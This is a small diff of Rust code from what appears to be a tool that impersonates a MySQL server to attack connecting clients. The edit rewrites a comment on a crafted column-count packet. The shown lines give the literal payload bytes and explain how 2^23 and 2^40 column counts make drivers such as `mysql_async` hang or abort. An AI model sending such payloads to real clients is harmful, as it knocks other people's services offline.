@@ -48,7 +48,7 @@ pub(super) async fn run_attack<S: AsyncRead + AsyncWrite + Unpin>(
 }
 
 /// Length-encoded integer 2^23 (three bytes after the prefix), sent as the column count.
-/// A MySQL driver can allocate memory for 2^23 columns, but the column definitions never end.
+/// 2^23 columns fit into a MySQL driver's memory, so the driver starts to read the endless column definitions.
 const ADVERTISED_COLUMN_COUNT_PACKET: [u8; 4] = [0xfd, 0, 0, 0x80];
 /// Length-encoded integer 2^40 (eight bytes after the prefix), sent as the column count.
 /// For 2^40 columns, `mysql_async` tries to allocate 32 TiB, which aborts the client process.
